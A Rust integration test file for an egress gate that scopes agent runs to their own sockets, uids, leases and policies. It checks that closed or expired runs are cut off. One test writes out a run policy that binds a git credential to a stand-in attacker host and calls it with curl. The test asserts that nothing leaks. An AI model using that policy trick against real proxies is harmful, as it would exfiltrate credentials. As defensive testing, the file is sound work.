//! Runs: a socket of their own, judged by the peer's uid, leased, and cut when they are closed.

use serde_json::{Value, json};
use tests::binaries;
use tests::command::{Finished, Program};
use tests::control::{Answer, Control};
use tests::host;
use tests::wait;
use tests::world::{EVIL, WEB, World};

const LEASE: u32 = 60;

/// A request to open run `name` for the uids `first..first+count`.
fn grant(name: &str, epoch: u64, first: u32, count: u32, lease: u32) -> Value {
    json!({
        "grant": {
            "company": "acme", "agent": "coder", "ticket": "ACM-1", "run": name, "profile": "default"
        },
        "epoch": epoch,
        "peer_uids": { "first": first, "count": count },
        "lease_seconds": lease,
    })
}

fn open(world: &World, name: &str, epoch: u64, uid: u32) -> Answer {
    let body = grant(name, epoch, uid, 1, LEASE);
    world
        .control()
        .call("PUT", &format!("/v1/runs/{name}"), Some(&body))
}

/// `curl` behind a real relay on the run's socket, as `uid`.
fn through(world: &World, socket: &str, port: u16, uid: u32, arguments: &[&str]) -> Program {
    let listen = format!("127.0.0.1:{port}");
    Program::new(binaries::path("portcullis-relay"))
        .args([
            "--gate",
            socket,
            "--listen",
            &listen,
            "--",
            "curl",
            "--silent",
            "--show-error",
        ])
        .args([
            "--include",
            "--max-time",
            "60",
            "--proxy",
            &format!("http://{listen}"),
            "--cacert",
        ])
        .arg(world.trust())
        .args(arguments)
        .as_uid(uid)
        .in_netns(&world.netns)
}

fn get(world: &World, socket: &str, port: u16, uid: u32, path: &str) -> Finished {
    through(world, socket, port, uid, &[&format!("https://{WEB}{path}")]).run()
}

#[test]
fn a_run_socket_serves_its_own_uids_and_nobody_else() {
    let world = World::new();
    let (own, other) = (host::uid(), host::uid());
    let opened = open(&world, "run-a", 1, own).ok();
    let socket = opened["socket"].as_str().unwrap();
    let served = get(&world, socket, 4001, own, "/mine");
    assert!(served.stdout.contains("recorded"), "{}", served.shown());
    let refused = get(&world, socket, 4002, other, "/theirs");
    assert!(!refused.stdout.contains("recorded"), "{}", refused.shown());
    let unlisted = through(&world, socket, 4003, own, &[&format!("https://{EVIL}/x")]).run();
    assert!(
        unlisted.stdout.contains("destination_not_listed"),
        "{}",
        unlisted.shown()
    );
    let received = world.web.received();
    assert!(
        received.contains("/mine") && !received.contains("/theirs"),
        "{received}"
    );

    let records = world.gate.audit();
    let mine = records.iter().find(|it| it["path"] == "/mine").unwrap();
    assert_eq!(
        (&mine["run"], &mine["ticket"]),
        (&json!("run-a"), &json!("ACM-1"))
    );
    assert_eq!(
        (&mine["entrance"], &mine["peer_uid"]),
        (&json!("run_socket"), &json!(own))
    );
}

#[test]
fn closing_a_run_cuts_its_streams_and_its_epoch_never_opens_again() {
    let world = World::new();
    let uid = host::uid();
    let socket = open(&world, "run-b", 1, uid).ok()["socket"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(
        open(&world, "run-b", 1, uid).status,
        200,
        "the same opening is no second one"
    );

    let url = format!("https://{WEB}/drip/2000");
    let mut stream = through(&world, &socket, 4011, uid, &[&url]).spawn();
    wait::until_true("the stream flows", || {
        world.web.received().contains("/drip/2000")
    });
    world
        .control()
        .call("DELETE", "/v1/runs/run-b?epoch=1", None)
        .ok();
    // 2000 lines would take 100 s; the client ends because it was cut.
    let status = wait::until("the stream is cut", || stream.try_wait().unwrap());
    assert!(!status.success());
    let refused = get(&world, &socket, 4012, uid, "/after");
    assert!(!refused.stdout.contains("recorded"), "{}", refused.shown());
    assert!(!world.web.received().contains("/after"));

    assert_eq!(open(&world, "run-b", 1, uid).status, 409, "an ended epoch");
    let again = open(&world, "run-b", 2, uid).ok();
    let served = get(
        &world,
        again["socket"].as_str().unwrap(),
        4013,
        uid,
        "/anew",
    );
    assert!(served.stdout.contains("recorded"), "{}", served.shown());
}

#[test]
fn a_lease_that_nobody_extends_ends_the_run() {
    let world = World::new();
    let uid = host::uid();
    let control = world.control();
    let body = |name: &str| grant(name, 1, uid, 1, 5);
    let short = control
        .call("PUT", "/v1/runs/short", Some(&body("short")))
        .ok();
    let socket = short["socket"].as_str().unwrap();
    assert!(
        get(&world, socket, 4021, uid, "/early")
            .stdout
            .contains("recorded")
    );
    let listed = |name: &str| {
        control
            .call("GET", "/v1/runs", None)
            .ok()
            .to_string()
            .contains(name)
    };
    wait::until_true("the lease ends", || !listed("short"));
    assert!(
        !get(&world, socket, 4022, uid, "/late")
            .stdout
            .contains("recorded")
    );
    assert!(!world.web.received().contains("/late"));
}

#[test]
fn runs_are_opened_again_after_a_restart_and_their_directory_stays() {
    let mut world = World::new();
    let uid = host::uid();
    let first = open(&world, "run-c", 1, uid).ok();
    let directory = first["socket_dir"].as_str().unwrap().to_owned();
    let inode = |path: &str| {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata(path).unwrap().ino()
    };
    let before = inode(&directory);
    world.gate.kill();
    world.start();
    let second = open(&world, "run-c", 1, uid).ok();
    assert_eq!(second["socket_dir"], directory.as_str());
    assert_eq!(
        before,
        inode(&directory),
        "a recreated directory is gone inside a container"
    );
    let socket = second["socket"].as_str().unwrap();
    assert!(
        get(&world, socket, 4031, uid, "/resumed")
            .stdout
            .contains("recorded")
    );
}

#[test]
fn the_control_socket_answers_listed_uids_only_and_only_for_their_profiles() {
    let world = World::new();
    let stranger = Control {
        uid: host::uid(),
        ..world.control()
    };
    let agent = Control {
        uid: world.agent,
        ..world.control()
    };
    for caller in [&stranger, &agent] {
        let answer = caller.call("GET", "/v1/status", None);
        assert!(
            ![200, 422].contains(&answer.status),
            "{}: {}",
            answer.status,
            answer.body
        );
        let body = grant("run-d", 1, caller.uid, 1, LEASE);
        let answer = caller.call("PUT", "/v1/runs/run-d", Some(&body));
        assert_ne!(answer.status, 200, "{}", answer.body);
        assert_ne!(caller.call("POST", "/v1/reload", None).status, 200);
    }
    assert_eq!(world.control().call("GET", "/v1/status", None).status, 200);

    let mut body = grant("run-e", 1, host::uid(), 1, LEASE);
    body["grant"]["profile"] = json!("elsewhere");
    let refused = world.control().call("PUT", "/v1/runs/run-e", Some(&body));
    assert!(
        (400..500).contains(&refused.status),
        "{}: {}",
        refused.status,
        refused.body
    );
    // Nobody may be root, the gate, or the overflow uid.
    for uid in [0, world.gate.uid, 65534] {
        let body = grant("run-f", 1, uid, 1, LEASE);
        let refused = world.control().call("PUT", "/v1/runs/run-f", Some(&body));
        assert!(
            (400..500).contains(&refused.status),
            "{uid}: {}: {}",
            refused.status,
            refused.body
        );
    }
}

#[test]
fn a_policy_sent_with_the_run_judges_that_run_alone() {
    let world = World::new();
    let (narrow, wide) = (host::uid(), host::uid());
    let mut body = grant("run-g", 1, narrow, 1, LEASE);
    body["policy"] = json!("version = 1\n");
    let closed = world
        .control()
        .call("PUT", "/v1/runs/run-g", Some(&body))
        .ok();
    let opened = open(&world, "run-h", 1, wide).ok();
    let refused = get(
        &world,
        closed["socket"].as_str().unwrap(),
        4041,
        narrow,
        "/narrow",
    );
    assert!(
        refused.stdout.contains("destination_not_listed"),
        "{}",
        refused.shown()
    );
    let served = get(
        &world,
        opened["socket"].as_str().unwrap(),
        4042,
        wide,
        "/wide",
    );
    assert!(served.stdout.contains("recorded"), "{}", served.shown());

    body["grant"]["run"] = json!("run-i");
    body["policy"] =
        json!("version = 1\n[[service]]\nkind = \"http\"\nhost = \"x.test\"\nalow = []\n");
    let broken = world.control().call("PUT", "/v1/runs/run-i", Some(&body));
    assert!((400..500).contains(&broken.status), "{}", broken.body);
    assert!(broken.body.contains("alow"), "{}", broken.body);

    // A policy of one's own cannot send a credential where the configuration does not bind it.
    body["grant"]["run"] = json!("run-j");
    body["policy"] = json!(format!(
        "version = 1\n[[service]]\nkind = \"http\"\nhost = \"{EVIL}\"\nallow = [\"GET /**\"]\n\
         credential = \"git\"\nca_file = \"{}\"\n",
        world.pki.ca().display()
    ));
    let stolen = world.control().call("PUT", "/v1/runs/run-j", Some(&body));
    if stolen.status == 200 {
        let socket = stolen.json()["socket"].as_str().unwrap().to_owned();
        through(
            &world,
            &socket,
            4043,
            narrow,
            &[&format!("https://{EVIL}/x")],
        )
        .run();
    }
    assert_eq!(
        world
            .git_secret
            .find("evil", world.evil.received().as_bytes()),
        []
    );
    assert!(
        !world
            .evil
            .received()
            .to_ascii_lowercase()
            .contains("authorization")
    );
}
